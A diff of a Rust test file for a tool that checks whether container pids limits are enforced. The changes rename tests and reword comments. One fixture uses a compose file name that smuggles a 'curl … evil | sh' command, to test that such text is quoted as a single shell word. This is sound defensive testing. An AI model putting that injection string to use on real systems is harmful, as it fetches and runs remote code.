@@ -1,4 +1,4 @@
-//! What looks like a cause and is none, or is less sure than it looks.
+//! States that look like a cause and are none, or are less certain than they look.
 
 use super::*;
 
@@ -15,7 +15,7 @@ fn a_limit_from_a_variable_proves_nothing() {
     only(&filled(composed(unlimited(), 25, 10)), Code::NotRecreated, Possible);
     only(&filled(composed(unlimited(), -1, 10)), Code::ExplicitUnlimited, Possible);
     for newer_by in [10, -10] {
-        // The shell had 500, and that is what holds.
+        // The shell had 500, and 500 is in force.
         let report = judge(&filled(composed(limited(500), 25, newer_by)));
         assert_eq!((report.verdict, report.declared), (Verdict::Enforced, Some(500)));
         let finding = &report.findings[0];
@@ -25,7 +25,7 @@ fn a_limit_from_a_variable_proves_nothing() {
     assert_eq!(codes(&judge(&filled(composed(limited(25), 25, 10)))), []);
 }
 
-/// A slice above, with these numbers; the target's own are 12 of `own`.
+/// Facts with `current` of `limit` tasks in a slice above. The target itself has 12 of `own` tasks.
 fn below(own: Limit, limit: u64, current: u64) -> Facts {
     let mut facts = limited(25);
     facts.container = None;
@@ -37,16 +37,17 @@ fn below(own: Limit, limit: u64, current: u64) -> Facts {
 }
 
 #[test]
-fn a_limit_above_that_others_used_up() {
+fn a_limit_above_that_other_cgroups_used_up_is_reported() {
     let own = Limit::Tasks(25);
     let report = only(&below(own, 100, 100), Code::AncestorLimit, Proved);
-    let title = "/mcp.slice holds 100 of 100 tasks: forks fail here although 12 of 25 are used";
+    let title = "/mcp.slice has 100 of 100 tasks: forks here fail, although this cgroup has only \
+                 12 of 25 tasks";
     assert_eq!(report.findings[0].title, title);
     let report = only(&below(own, 100, 96), Code::AncestorLimit, Proved);
     assert!(report.findings[0].title.contains("may fail"));
     let report = only(&below(Limit::Max, 100, 100), Code::AncestorLimit, Proved);
     assert!(report.findings[0].title.contains("12 tasks"));
-    // Room enough; as much as here; all of it our own.
+    // The slice has enough room; as much room as the target; no tasks but the target's.
     for facts in [below(own, 100, 90), below(own, 300, 287), below(Limit::Max, 12, 12)] {
         assert_eq!(codes(&judge(&facts)), [], "{:?}", facts.chain[1]);
     }
@@ -56,15 +57,15 @@ fn a_limit_above_that_others_used_up() {
 }
 
 #[test]
-fn a_limit_above_is_the_one_that_was_meant_where_nothing_is_wanted_here() {
+fn a_limit_above_is_intended_if_no_limit_is_wanted_here() {
     let meant = |facts: &Facts| {
         let report = judge(facts);
         assert_eq!((codes(&report), report.verdict), (vec![], Verdict::Enforced));
         report.ok.iter().any(|fine| fine.code == Code::WrongLevel)
     };
     assert!(meant(&below(Limit::Max, 100, 20)));
-    assert!(!meant(&below(Limit::Tasks(25), 100, 20)), "the own one is lower");
-    // systemd's default is nobody's wish.
+    assert!(!meant(&below(Limit::Tasks(25), 100, 20)), "the target's own limit is lower");
+    // systemd's default was not asked for.
     assert!(meant(&scoped(below(Limit::Tasks(1698), 100, 20), Limit::Tasks(1698), 252)));
     only(&below(Limit::Tasks(200), 100, 20), Code::AncestorLimit, Proved);
     let mut pod = below(Limit::Max, 100, 20);
@@ -73,7 +74,7 @@ fn a_limit_above_is_the_one_that_was_meant_where_nothing_is_wanted_here() {
 }
 
 #[test]
-fn a_scope_above_takes_its_limit_until_it_ends() {
+fn the_limit_of_a_scope_above_is_set_at_run_time_only() {
     let mut facts = below(Limit::Tasks(200), 100, 20);
     facts.chain[1].path = "/user.slice/a b.scope".into();
     let report = only(&facts, Code::AncestorLimit, Proved);
@@ -82,19 +83,19 @@ fn a_scope_above_takes_its_limit_until_it_ends() {
 }
 
 #[test]
-fn the_default_of_systemd_is_no_limit_that_holds() {
+fn the_default_of_systemd_does_not_count_as_enforced() {
     let mut facts = scoped(unlimited(), Limit::Tasks(1698), 252);
     facts.chain[0].max = Some(Limit::Tasks(1698));
     let report = only(&facts, Code::ExplicitUnlimited, Proved);
     assert_eq!((report.verdict, report.effective_limit), (Verdict::NotEnforced, Some(1698)));
     assert!(report.ok.iter().all(|fine| fine.code != Code::Enforced), "{:?}", report.ok);
-    // The same number, and asked for.
+    // A limit of the same number that was asked for does count.
     let facts = scoped(limited(1698), Limit::Tasks(1698), 252);
     assert_eq!(judge(&facts).verdict, Verdict::Enforced);
 }
 
 #[test]
-fn of_another_kernel_only_the_engine_knows() {
+fn on_another_kernel_only_the_engine_is_asked() {
     let mut facts = limited(25);
     container(&mut facts).runtime = "runsc".into();
     let report = only(&facts, Code::Sandbox, Proved);
@@ -106,7 +107,7 @@ fn of_another_kernel_only_the_engine_knows() {
 }
 
 #[test]
-fn what_an_image_says_is_one_word_of_a_command() {
+fn text_from_an_image_is_quoted_as_one_shell_word() {
     let mut facts = composed(unlimited(), 25, 10);
     let compose = facts.compose.as_mut().unwrap();
     compose.files = vec!["/x;curl${IFS}evil|sh;.yml".into()];
@@ -128,7 +129,7 @@ fn what_an_image_says_is_one_word_of_a_command() {
 }
 
 #[test]
-fn the_dead_were_born_inside_too() {
+fn zombies_were_created_inside_too() {
     let mut facts = with(limited(5), 3, INIT);
     facts.zombies = (200..208).map(|pid| process(pid, INIT + 1)).collect();
     facts.chain[0].current = Some(12);
@@ -138,7 +139,7 @@ fn the_dead_were_born_inside_too() {
 }
 
 #[test]
-fn what_was_moved_in_with_its_threads_and_children_proves_no_lower_limit() {
+fn processes_moved_in_with_threads_and_children_do_not_prove_a_lowered_limit() {
     // One process of 30 threads, and one with ten children.
     let mut threads = with(limited(25), 1, SHIM);
     threads.members[1].threads = 30;
@@ -147,7 +148,7 @@ fn what_was_moved_in_with_its_threads_and_children_proves_no_lower_limit() {
         facts.chain[0].current = Some(facts.threads());
         let report = only(&facts, Code::ExternalMigration, Possible);
         assert!(report.findings[0].title.starts_with("a process came in"));
-        // By exec it began as one task: the rest was born inside.
+        // An exec begins as one task, so the rest was created inside.
         container(&mut facts).execs = vec![Pid(INIT + 1)];
         only(&facts, Code::LoweredBelow, Proved);
         facts.container = None;
@@ -156,15 +157,15 @@ fn what_was_moved_in_with_its_threads_and_children_proves_no_lower_limit() {
 }
 
 #[test]
-fn nobody_came_in_where_there_is_nobody_to_show() {
-    // More is charged than can be seen.
+fn without_a_process_to_name_none_is_said_to_have_come_in() {
+    // More tasks are charged than are visible.
     let mut facts = limited(5);
     facts.chain[0].current = Some(9);
     only(&facts, Code::LoweredBelow, Possible);
 }
 
 #[test]
-fn another_container_with_the_default_of_systemd_has_no_limit() {
+fn another_container_with_only_the_default_of_systemd_has_no_limit() {
     let other = |limit| Other { same_image: true, limit: Some(limit), ..Other::default() };
     let mut facts = scoped(limited(25), Limit::Tasks(25), 252);
     facts.others = vec![other(Limit::Tasks(1698))];
@@ -173,17 +174,17 @@ fn another_container_with_the_default_of_systemd_has_no_limit() {
     assert_eq!(codes(&judge(&facts)), []);
     let mut facts = limited(25);
     facts.others = vec![other(Limit::Tasks(1698))];
-    assert_eq!(codes(&judge(&facts)), [], "without systemd it is a limit");
+    assert_eq!(codes(&judge(&facts)), [], "without systemd the number is a limit");
 }
 
 #[test]
-fn a_stricter_limit_in_force_is_no_hole() {
+fn a_stricter_limit_in_force_is_only_medium() {
     let severity = |facts: &Facts, code| {
         let report = judge(facts);
         assert_eq!(codes(&report), [code], "{:#?}", report.findings);
         report.findings[0].severity
     };
-    // Made with 25, and the file has 500 now; and the other way round.
+    // Created with 25, and the file has 500 now; then the other way round.
     assert_eq!(severity(&composed(limited(25), 500, 10), Code::NotRecreated), Severity::Medium);
     assert_eq!(severity(&composed(limited(500), 25, 10), Code::NotRecreated), Severity::Critical);
     let title = judge(&composed(limited(460), 25, 10)).findings[0].title.clone();
@@ -199,7 +200,7 @@ fn a_stricter_limit_in_force_is_no_hole() {
 }
 
 #[test]
-fn a_zero_that_docker_keeps_is_an_update() {
+fn a_zero_that_docker_stores_comes_from_an_update() {
     let mut facts = composed(unlimited(), 25, 10);
     container(&mut facts).pids_limit = Some(0);
     let report = only(&facts, Code::ExplicitUnlimited, Proved);
@@ -210,7 +211,7 @@ fn a_zero_that_docker_keeps_is_an_update() {
 }
 
 #[test]
-fn an_ulimit_beside_compose_and_one_that_limits_nothing() {
+fn a_ulimit_is_the_wrong_layer_only_if_it_limits_something() {
     let with_ulimit = |nproc| {
         let mut facts = composed(unlimited(), 25, 10);
         container(&mut facts).nproc_ulimit = Some(nproc);
@@ -227,21 +228,21 @@ fn an_ulimit_beside_compose_and_one_that_limits_nothing() {
 }
 
 #[test]
-fn who_left_and_who_entered_are_told_apart_one_by_one() {
+fn processes_that_left_are_told_from_those_that_entered_one_by_one() {
     let alien =
         |pid, parent, cgroup: &str| Process { cgroup: cgroup.into(), ..process(pid, parent) };
     let mut facts = limited(25);
     container(&mut facts).privileged = true;
     let shell = alien(900, 1, "/user.slice/session-1.scope");
     let of_shell = alien(901, 900, "/user.slice/session-1.scope");
-    // The child of one that left has the lower number.
+    // The child of a process that left has the lower pid.
     let (escaped, child) = (alien(801, INIT, "/escaped"), alien(800, 801, "/escaped"));
     facts.aliens = vec![child, escaped, shell, of_shell];
     let report = judge(&facts);
     assert_eq!(codes(&report), [Code::EscapedCgroup, Code::PidNamespace]);
     let titles: Vec<&str> = report.findings.iter().map(|one| one.title.as_str()).collect();
     assert!(titles[0].starts_with("2 processes") && titles[1].starts_with("2 processes"));
-    // One container beside it, and one that an engine inside made: each is named in its own group.
+    // Another container in the namespace, and one that an inner engine created: each is its own finding.
     let (shared, inner) = ("b".repeat(64), "c".repeat(64));
     facts.aliens = vec![
         alien(900, 60, &format!("/docker/{shared}")),
@@ -251,17 +252,17 @@ fn who_left_and_who_entered_are_told_apart_one_by_one() {
     assert_eq!(codes(&report), [Code::InnerOutside, Code::PidNamespace]);
     assert!(report.findings[0].title.contains("cccccccccccc"));
     assert!(report.findings[1].title.contains("bbbbbbbbbbbb"));
-    // An orphan in a shared namespace gets this container's first process as its parent.
+    // An orphan in a shared namespace is reparented to this container's first process.
     facts.aliens[1].cgroup = format!("/docker/{shared}");
     assert_eq!(codes(&judge(&facts)), [Code::PidNamespace]);
-    // A health check on its way in.
+    // A health check that is just starting.
     facts.aliens =
         vec![Process { comm: "runc:[2:INIT]".into(), ..alien(900, SHIM, "/system.slice") }];
     assert_eq!(codes(&judge(&facts)), []);
 }
 
 #[test]
-fn a_raw_value_is_not_proved_where_systemd_was_not_asked() {
+fn a_direct_write_is_not_proved_unless_systemd_was_asked() {
     let mut facts = limited(25);
     (facts.chain[0].max, facts.chain[0].denials) = (Some(Limit::Max), Some(4));
     facts.engine.as_mut().unwrap().cgroup_driver = CgroupDriver::Systemd;
@@ -270,7 +271,7 @@ fn a_raw_value_is_not_proved_where_systemd_was_not_asked() {
 }
 
 #[test]
-fn sandboxes_by_their_shim_and_a_host_without_the_controller() {
+fn a_sandbox_is_known_by_its_shim_and_a_missing_controller_by_the_engine() {
     for (runtime, sandbox) in [("io.containerd.kata.v2", true), ("io.containerd.runc.v2", false)] {
         let mut facts = limited(25);
         container(&mut facts).runtime = runtime.into();
@@ -279,13 +280,13 @@ fn sandboxes_by_their_shim_and_a_host_without_the_controller() {
     }
     let mut facts = limited(25);
     facts.engine.as_mut().unwrap().pids_limit = Some(false);
-    assert_eq!(codes(&judge(&facts)), [], "there is a limit all the same");
+    assert_eq!(codes(&judge(&facts)), [], "the cgroup has a limit nevertheless");
     facts.chain[0].max = None;
     only(&facts, Code::ControllerDisabled, Proved);
 }
 
 #[test]
-fn memory_is_unlimited_too_only_where_pids_are() {
+fn memory_is_called_unlimited_too_only_if_pids_are() {
     let note = |facts: Facts| judge(&with(facts, 1, INIT)).notes.concat();
     assert!(note(limited(25)).contains("memory has no limit:"));
     assert!(note(unlimited()).contains("memory has no limit either:"));
